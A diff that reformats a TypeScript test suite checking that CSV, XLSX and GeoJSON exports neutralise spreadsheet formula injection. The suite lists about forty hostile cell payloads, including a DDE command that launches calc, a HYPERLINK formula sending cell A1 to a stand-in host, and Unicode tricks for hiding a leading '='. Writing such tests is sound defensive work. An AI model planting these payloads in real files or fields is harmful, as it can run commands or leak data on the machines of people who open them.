@@ -17,11 +17,46 @@ const CALC = `cmd|' /C calc'!A0`;
 
 /** What is typed where a person may write, to be run on the machine of whoever opens the file. */
 const PAYLOADS: readonly string[] = [
-  `=${CALC}`, `+${CALC}`, `-${CALC}`, `@SUM(1+1)*${CALC}`, '=HYPERLINK("https://evil.example?x="&A1,"open")', '=IMPORTXML("https://evil.example","//a")',
-  `\t=${CALC}`, `\r=${CALC}`, `\n=${CALC}`, `\r\n=${CALC}`, `＝${CALC}`, `＋${CALC}`, `－${CALC}`, '＠SUM(A1)', '﹦1+1', '−2+3',
-  ` =${CALC}`, `\u00a0=${CALC}`, `\ufeff=${CALC}`, `\u200b=${CALC}`, `\u202e=${CALC}`, `\u0001=${CALC}`, `"=${CALC}`, `""=${CALC}"`,
-  ';=1+1', ',=1+1', 'Завод;=1+1', 'Works, =1+1', 'Works,"=1+1"', 'Завод";=1+1;"', `Завод\r\n=${CALC}`, `Завод\n+${CALC}`, `Завод\r@SUM(1)`, 'Завод\n"=1+1"',
-  `Завод|=${CALC}`, '=_x003D_1+1', '_x003D_1+1', 'a\u2028=1+1', `${'я'.repeat(32_767)}=${CALC}`, `${'я'.repeat(32_765)};=1+1`,
+  `=${CALC}`,
+  `+${CALC}`,
+  `-${CALC}`,
+  `@SUM(1+1)*${CALC}`,
+  '=HYPERLINK("https://evil.example?x="&A1,"open")',
+  '=IMPORTXML("https://evil.example","//a")',
+  `\t=${CALC}`,
+  `\r=${CALC}`,
+  `\n=${CALC}`,
+  `\r\n=${CALC}`,
+  `＝${CALC}`,
+  `＋${CALC}`,
+  `－${CALC}`,
+  '＠SUM(A1)',
+  '﹦1+1',
+  '−2+3',
+  ` =${CALC}`,
+  `\u00a0=${CALC}`,
+  `\ufeff=${CALC}`,
+  `\u200b=${CALC}`,
+  `\u202e=${CALC}`,
+  `\u0001=${CALC}`,
+  `"=${CALC}`,
+  `""=${CALC}"`,
+  ';=1+1',
+  ',=1+1',
+  'Завод;=1+1',
+  'Works, =1+1',
+  'Works,"=1+1"',
+  'Завод";=1+1;"',
+  `Завод\r\n=${CALC}`,
+  `Завод\n+${CALC}`,
+  `Завод\r@SUM(1)`,
+  'Завод\n"=1+1"',
+  `Завод|=${CALC}`,
+  '=_x003D_1+1',
+  '_x003D_1+1',
+  'a\u2028=1+1',
+  `${'я'.repeat(32_767)}=${CALC}`,
+  `${'я'.repeat(32_765)};=1+1`,
 ];
 
 /** Everything that is text and was written by somebody; the other columns hold numbers and words of our own. */
@@ -41,12 +76,14 @@ const inEveryColumn = (payload: string): ExportView => ({
 });
 
 /** Whether a spreadsheet would run the cell, past spaces, quotes and signs that nobody sees. */
-const isRun = (cell: string): boolean => /^[\s"«»“”„\p{Cf}\p{Cc}\p{Zs}]*[=+@＝＋－＠﹦−-]/u.test(cell) && !/^"?[+-]?\d+([.,]\d+)?"?$/.test(cell.trim());
+const isRun = (cell: string): boolean =>
+  /^[\s"«»“”„\p{Cf}\p{Cc}\p{Zs}]*[=+@＝＋－＠﹦−-]/u.test(cell) && !/^"?[+-]?\d+([.,]\d+)?"?$/.test(cell.trim());
 
 const READERS = [forgivenCells, barePieces];
 
 /** Cells that some reader would run, with the separator of the file or another. */
-const runIn = (file: Buffer): string[] => READERS.flatMap((read) => [';', ',', '\t'].flatMap((delimiter) => read(file, delimiter).filter(isRun)));
+const runIn = (file: Buffer): string[] =>
+  READERS.flatMap((read) => [';', ',', '\t'].flatMap((delimiter) => read(file, delimiter).filter(isRun)));
 
 const OWN_SEPARATOR = { RU: ';', KK: ';', EN: ',' } as const;
 
@@ -89,20 +126,54 @@ describe('forty payloads in every text column', () => {
   });
 
   it('stay text when somebody opens their cell and confirms it', async () => {
-    const file = await bytesOf(writeXlsx, ['=1+1', 'honest'].map((title) => ({ ...NOTHING_KNOWN, title })));
+    const file = await bytesOf(
+      writeXlsx,
+      ['=1+1', 'honest'].map((title) => ({ ...NOTHING_KNOWN, title })),
+    );
     const sheet = unzipped(file, 'xl/worksheets/sheet1.xml');
     expect(sheet).toMatch(/<c r="A2" s="5" t="inlineStr">/);
     expect(sheet).toMatch(/<c r="A3" t="inlineStr">/);
-    expect(unzipped(file, 'xl/styles.xml').match(/<xf [^>]*>/g)?.at(-1)).toContain('quotePrefix="1"');
+    expect(
+      unzipped(file, 'xl/styles.xml')
+        .match(/<xf [^>]*>/g)
+        ?.at(-1),
+    ).toContain('quotePrefix="1"');
   });
 
   it('and whatever else can be put together of their signs', async () => {
-    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '"', '""', "'", ';', ',', '\t', '\r', '\n', ' ', '\u00a0', '\u200b', '\ufeff', 'я', 'a', '1', '|', '_x003D_');
+    const sign = fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '＝',
+      '"',
+      '""',
+      "'",
+      ';',
+      ',',
+      '\t',
+      '\r',
+      '\n',
+      ' ',
+      '\u00a0',
+      '\u200b',
+      '\ufeff',
+      'я',
+      'a',
+      '1',
+      '|',
+      '_x003D_',
+    );
     const cell = fc.array(sign, { maxLength: 8 }).map((signs) => signs.join(''));
     await fc.assert(
-      fc.asyncProperty(fc.array(cell, { minLength: 3, maxLength: 3 }), fc.constantFrom(...LOCALES), async ([title = '', place = '', steward = ''], locale) => {
-        expect(runIn(await bytesOf(writeCsv, [{ ...NOTHING_KNOWN, title, place, steward, sources: [title] }], { locale }))).toEqual([]);
-      }),
+      fc.asyncProperty(
+        fc.array(cell, { minLength: 3, maxLength: 3 }),
+        fc.constantFrom(...LOCALES),
+        async ([title = '', place = '', steward = ''], locale) => {
+          expect(runIn(await bytesOf(writeCsv, [{ ...NOTHING_KNOWN, title, place, steward, sources: [title] }], { locale }))).toEqual([]);
+        },
+      ),
       { numRuns: times(500, 50_000) },
     );
   });
@@ -152,7 +223,9 @@ describe('the same payloads in the database', () => {
   });
 
   it('leave as plain strings of JSON', async () => {
-    const { features } = JSON.parse((await take('/export/opportunities.geojson')).toString('utf8')) as { features: { properties: { title: string } }[] };
+    const { features } = JSON.parse((await take('/export/opportunities.geojson')).toString('utf8')) as {
+      features: { properties: { title: string } }[];
+    };
     const titles = new Set(features.map(({ properties }) => properties.title));
     expect(payloads.filter((payload) => !titles.has(payload))).toEqual([]);
   });
